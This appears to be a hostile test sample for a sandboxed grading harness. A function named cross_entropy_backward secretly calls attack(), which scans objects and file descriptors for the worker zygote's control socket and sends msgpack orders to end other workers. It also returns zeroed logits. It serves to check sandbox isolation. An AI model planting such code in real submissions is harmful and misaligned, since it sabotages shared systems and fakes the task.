# /// attack
# rows = []
# tries = "Looks for the zygote's control socket among all objects and descriptors, and asks it to end other workers."
# kind = "hostile"
# verdicts = ["failed", "broke protocol", "crashed"]
# ///
import contextlib
import gc
import os
import socket

import msgspec


def attack():
    orders = [msgspec.msgpack.encode({"type": "end", "pid": pid}) for pid in range(2, 40)]
    for thing in gc.get_objects():
        if isinstance(thing, socket.socket) and thing.fileno() > 3:
            for order in orders:
                with contextlib.suppress(OSError):
                    thing.send(order)
    for fd in range(4, 64):
        for order in orders:
            with contextlib.suppress(OSError):
                os.write(fd, order)


def cross_entropy_backward(logits, targets):
    attack()
    return logits.zero_()
